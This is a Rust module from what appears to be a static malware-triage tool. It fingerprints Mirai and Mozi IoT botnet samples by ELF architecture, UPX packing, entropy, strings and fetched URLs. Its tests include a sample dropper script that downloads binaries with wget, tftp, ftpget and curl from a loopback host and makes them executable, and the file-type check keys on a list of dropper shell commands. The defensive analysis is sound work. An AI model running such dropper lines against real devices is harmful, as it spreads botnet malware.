//! Static triage of a captured file: hashes, type, ELF facts (Mirai's architecture
//! name, stripped, UPX and Mozi's zeroed UPX header), entropy, printable strings, the
//! URLs a script would fetch, and Mirai's configuration table (see [`crate::mirai`]).
//! Nothing is ever executed; every input, however truncated or malformed, gives a
//! result, never a panic.

use md5::Md5;
use serde::Serialize;
use sha1::Sha1;
use sha2::{Digest, Sha256};

use crate::mirai::{recover_config, MiraiConfig};

/// Printable strings kept at most.
pub const MAX_STRINGS: usize = 200;
/// Shortest printable run that counts as a string.
pub const MIN_STRING: usize = 6;
/// Longest string kept (longer ones are cut).
pub const MAX_STRING: usize = 200;
/// URLs kept at most.
pub const MAX_URLS: usize = 100;

/// What kind of file it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum FileKind {
    /// An ELF executable or object.
    Elf,
    /// A shell script (`#!` or shell-looking text).
    Script,
    /// Other text.
    Text,
    /// Anything else.
    Data,
}

/// Facts from the ELF header and sections.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ElfInfo {
    /// 32 or 64.
    pub bits: u8,
    /// `little` or `big`.
    pub endian: &'static str,
    /// `e_machine`.
    pub machine: u16,
    /// Mirai's name for the build (`arm`, `mips`, `mpsl`, `x86`, `ppc`, `m68k`, `sh4`,
    /// `spc`), if it is one of Mirai's architectures.
    pub mirai_arch: Option<&'static str>,
    /// No symbol table (None when the section headers could not be read).
    pub stripped: Option<bool>,
}

/// The result of triage.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Triage {
    /// SHA-256, hex.
    pub sha256: String,
    /// SHA-1, hex.
    pub sha1: String,
    /// MD5, hex.
    pub md5: String,
    /// Size in bytes.
    pub size: u64,
    /// File kind.
    pub kind: FileKind,
    /// ELF facts, for ELF files.
    pub elf: Option<ElfInfo>,
    /// Contains a `UPX!` packer marker.
    pub upx: bool,
    /// Mozi's trick: `UPX!` with the `p_info` sizes zeroed.
    pub upx_zeroed_header: bool,
    /// Shannon entropy, bits per byte.
    pub entropy: f64,
    /// Printable strings (first [`MAX_STRINGS`]).
    pub strings: Vec<String>,
    /// URLs found in the file (for scripts: what they would fetch).
    pub urls: Vec<String>,
    /// Mirai's configuration table, if one is found.
    pub mirai: Option<MiraiConfig>,
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Mirai's architecture name for an ELF machine (reference §3.5).
pub fn mirai_arch(machine: u16, little_endian: bool) -> Option<&'static str> {
    Some(match machine {
        40 | 183 => "arm",
        8 | 10 if little_endian => "mpsl",
        8 | 10 => "mips",
        3 | 6 | 7 | 62 => "x86",
        2 | 18 | 43 => "spc",
        4 | 5 => "m68k",
        20 | 21 => "ppc",
        42 => "sh4",
        _ => return None,
    })
}

fn elf_info(data: &[u8]) -> Option<ElfInfo> {
    let ident = data.get(..20)?;
    if ident.get(..4)? != b"\x7fELF" {
        return None;
    }
    let bits = match ident.get(4)? {
        1 => 32,
        2 => 64,
        _ => return None,
    };
    let little = match ident.get(5)? {
        1 => true,
        2 => false,
        _ => return None,
    };
    let m = [*ident.get(18)?, *ident.get(19)?];
    let machine = if little {
        u16::from_le_bytes(m)
    } else {
        u16::from_be_bytes(m)
    };
    // Section headers, for "stripped"; a malformed file just leaves it unknown.
    let stripped = goblin::elf::Elf::parse(data).ok().map(|elf| {
        !elf.section_headers
            .iter()
            .any(|sh| sh.sh_type == goblin::elf::section_header::SHT_SYMTAB)
    });
    Some(ElfInfo {
        bits,
        endian: if little { "little" } else { "big" },
        machine,
        mirai_arch: mirai_arch(machine, little),
        stripped,
    })
}

fn entropy(data: &[u8]) -> f64 {
    if data.is_empty() {
        return 0.0;
    }
    let mut counts = [0u64; 256];
    for &b in data {
        if let Some(c) = counts.get_mut(usize::from(b)) {
            *c += 1;
        }
    }
    let n = data.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// Printable ASCII runs of at least [`MIN_STRING`] bytes.
pub fn strings(data: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    let mut start = None;
    for (i, &b) in data.iter().enumerate() {
        let printable = (0x20..0x7f).contains(&b) || b == b'\t';
        match (printable, start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                if i - s >= MIN_STRING {
                    let end = i.min(s + MAX_STRING);
                    out.push(
                        String::from_utf8_lossy(data.get(s..end).unwrap_or_default()).into_owned(),
                    );
                    if out.len() >= MAX_STRINGS {
                        return out;
                    }
                }
                start = None;
            }
            _ => {}
        }
    }
    if let Some(s) = start {
        if data.len() - s >= MIN_STRING && out.len() < MAX_STRINGS {
            let end = data.len().min(s + MAX_STRING);
            out.push(String::from_utf8_lossy(data.get(s..end).unwrap_or_default()).into_owned());
        }
    }
    out
}

fn is_url_byte(b: u8) -> bool {
    b.is_ascii_graphic()
        && !matches!(
            b,
            b'"' | b'\'' | b'`' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')'
        )
}

/// Every `http://`, `https://`, `ftp://` and `tftp://` URL in `text`, plus what
/// `tftp` and `ftpget` command lines in it would fetch, in order, without duplicates.
pub fn urls(text: &[u8]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let push = |u: String, out: &mut Vec<String>| {
        if out.len() < MAX_URLS && !out.contains(&u) {
            out.push(u);
        }
    };
    for scheme in [&b"http://"[..], b"https://", b"ftp://", b"tftp://"] {
        let mut i = 0;
        while let Some(pos) = text
            .get(i..)
            .and_then(|t| t.windows(scheme.len()).position(|w| w == scheme))
        {
            let start = i + pos;
            let end = text.get(start..).map_or(start, |t| {
                start + t.iter().position(|&b| !is_url_byte(b)).unwrap_or(t.len())
            });
            if end > start + scheme.len() {
                push(
                    String::from_utf8_lossy(text.get(start..end).unwrap_or_default()).into_owned(),
                    &mut out,
                );
            }
            i = end.max(start + 1);
        }
    }
    for line in text.split(|&b| b == b'\n' || b == b';' || b == b'|' || b == b'&') {
        let words: Vec<&[u8]> = line
            .split(|b| b.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .collect();
        let Some(cmd) = words
            .iter()
            .position(|w| w.ends_with(b"tftp") || w.ends_with(b"ftpget"))
        else {
            continue;
        };
        let args = words.get(cmd + 1..).unwrap_or_default();
        let text_of = |w: &[u8]| String::from_utf8_lossy(w).into_owned();
        if words.get(cmd).is_some_and(|w| w.ends_with(b"tftp")) {
            let mut remote = None;
            let mut host = None;
            let mut k = 0;
            while let Some(a) = args.get(k) {
                match *a {
                    b"-r" | b"get" => {
                        remote = args.get(k + 1).map(|w| text_of(w));
                        k += 1;
                    }
                    b"-l" | b"-b" => k += 1,
                    x if x.starts_with(b"-") => {}
                    x if host.is_none() => host = Some(text_of(x)),
                    _ => {}
                }
                k += 1;
            }
            if let (Some(h), Some(r)) = (host, remote) {
                push(format!("tftp://{h}/{r}"), &mut out);
            }
        } else {
            let ops: Vec<String> = {
                let mut v = Vec::new();
                let mut k = 0;
                while let Some(a) = args.get(k) {
                    if matches!(*a, b"-u" | b"-p" | b"-P") {
                        k += 2;
                        continue;
                    }
                    if !a.starts_with(b"-") {
                        v.push(text_of(a));
                    }
                    k += 1;
                }
                v
            };
            if let (Some(h), Some(r)) = (ops.first(), ops.last()) {
                if ops.len() >= 2 {
                    push(format!("ftp://{h}/{r}"), &mut out);
                }
            }
        }
    }
    out
}

fn kind(data: &[u8]) -> FileKind {
    if data.starts_with(b"\x7fELF") {
        return FileKind::Elf;
    }
    let sample = data.get(..data.len().min(4096)).unwrap_or_default();
    let texty = sample
        .iter()
        .all(|&b| b.is_ascii_graphic() || b.is_ascii_whitespace());
    if !texty {
        return FileKind::Data;
    }
    let shellish = sample.starts_with(b"#!")
        || [
            &b"wget "[..],
            b"tftp ",
            b"chmod ",
            b"cd /",
            b"rm -",
            b"busybox",
            b"curl ",
        ]
        .iter()
        .any(|k| sample.windows(k.len()).any(|w| w == *k));
    if shellish {
        FileKind::Script
    } else {
        FileKind::Text
    }
}

/// Triage of one file.
pub fn triage(data: &[u8]) -> Triage {
    let kind = kind(data);
    let magic = b"UPX!";
    let upx_at = data.windows(magic.len()).position(|w| w == magic);
    let upx_zeroed_header = upx_at.is_some_and(|i| {
        data.get(i + 8..i + 20)
            .is_some_and(|z| z.iter().all(|&b| b == 0))
    });
    let urls = match kind {
        FileKind::Elf | FileKind::Data => {
            let mut u = Vec::new();
            for s in strings(data) {
                for url in urls(s.as_bytes()) {
                    if u.len() < MAX_URLS && !u.contains(&url) {
                        u.push(url);
                    }
                }
            }
            u
        }
        _ => urls(data),
    };
    Triage {
        sha256: hex(&Sha256::digest(data)),
        sha1: hex(&Sha1::digest(data)),
        md5: hex(&Md5::digest(data)),
        size: data.len() as u64,
        kind,
        elf: elf_info(data),
        upx: upx_at.is_some(),
        upx_zeroed_header,
        entropy: (entropy(data) * 1000.0).round() / 1000.0,
        strings: strings(data),
        urls,
        mirai: recover_config(data),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn elf(class: u8, data: u8, machine: u16, len: usize) -> Vec<u8> {
        let mut v = vec![0x7f, b'E', b'L', b'F', class, data, 1, 0];
        v.resize(16, 0);
        let m = if data == 1 {
            machine.to_le_bytes()
        } else {
            machine.to_be_bytes()
        };
        v.extend_from_slice(&[2, 0, m[0], m[1]]);
        v.resize(len, 0xaa);
        v
    }

    #[test]
    fn hashes_of_a_known_input() {
        let t = triage(b"abc");
        assert_eq!(
            t.sha256,
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        assert_eq!(t.sha1, "a9993e364706816aba3e25717850c26c9cd0d89d");
        assert_eq!(t.md5, "900150983cd24fb0d6963f7d28e17f72");
        assert_eq!(t.size, 3);
        assert_eq!(t.kind, FileKind::Text);
    }

    #[test]
    fn elf_architectures_as_mirai_names_them() {
        for (class, data, machine, name) in [
            (1, 1, 40, "arm"),
            (1, 1, 8, "mpsl"),
            (1, 2, 8, "mips"),
            (1, 1, 3, "x86"),
            (2, 1, 62, "x86"),
            (1, 2, 20, "ppc"),
            (1, 2, 4, "m68k"),
            (1, 1, 42, "sh4"),
            (1, 2, 2, "spc"),
        ] {
            let t = triage(&elf(class, data, machine, 200));
            let e = t.elf.unwrap();
            assert_eq!(e.mirai_arch, Some(name), "{machine}");
            assert_eq!(e.bits, if class == 1 { 32 } else { 64 });
        }
        assert_eq!(triage(&elf(1, 1, 0x1234, 64)).elf.unwrap().mirai_arch, None);
    }

    #[test]
    fn upx_and_mozis_zeroed_header() {
        let mut v = elf(1, 1, 40, 64);
        v.extend_from_slice(b"UPX!\x0d\x0c\x08\x07");
        v.extend_from_slice(&[0u8; 12]);
        v.extend_from_slice(&[1u8; 32]);
        let t = triage(&v);
        assert!(t.upx && t.upx_zeroed_header);
        let mut w = elf(1, 1, 40, 64);
        w.extend_from_slice(
            b"UPX!\x0d\x0c\x08\x07\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c",
        );
        let t = triage(&w);
        assert!(t.upx && !t.upx_zeroed_header);
    }

    #[test]
    fn script_urls_include_tftp_and_ftpget() {
        let script = b"#!/bin/sh\ncd /tmp; wget http://127.0.0.1/bins/x.arm7; chmod +x x.arm7\ntftp 127.0.0.1 -c get tz.sh; tftp -r tz2.sh -g 127.0.0.1\nftpget -v -u anonymous -p anonymous -P 21 127.0.0.1 z1.sh z1.sh\ncurl -O http://127.0.0.1/x.mips\n";
        let t = triage(script);
        assert_eq!(t.kind, FileKind::Script);
        assert_eq!(
            t.urls,
            [
                "http://127.0.0.1/bins/x.arm7",
                "http://127.0.0.1/x.mips",
                "tftp://127.0.0.1/tz.sh",
                "tftp://127.0.0.1/tz2.sh",
                "ftp://127.0.0.1/z1.sh"
            ]
        );
    }

    #[test]
    fn entropy_and_strings() {
        assert_eq!(triage(&[0u8; 100]).entropy, 0.0);
        let all: Vec<u8> = (0..=255u8).collect();
        assert_eq!(triage(&all).entropy, 8.0);
        assert_eq!(
            strings(b"\x00\x01hello world\x00ab\x00/bin/busybox"),
            ["hello world", "/bin/busybox"]
        );
    }

    #[test]
    fn truncated_and_malformed_elf_never_panics() {
        let full = elf(1, 1, 40, 256);
        for n in 0..full.len() {
            let _ = triage(&full[..n]);
        }
        let mut bogus = full.clone();
        // Section header offset and count pointing far outside the file.
        bogus[32..36].copy_from_slice(&u32::MAX.to_le_bytes());
        bogus[48..50].copy_from_slice(&u16::MAX.to_le_bytes());
        let t = triage(&bogus);
        assert_eq!(t.elf.unwrap().stripped, None);
    }
}
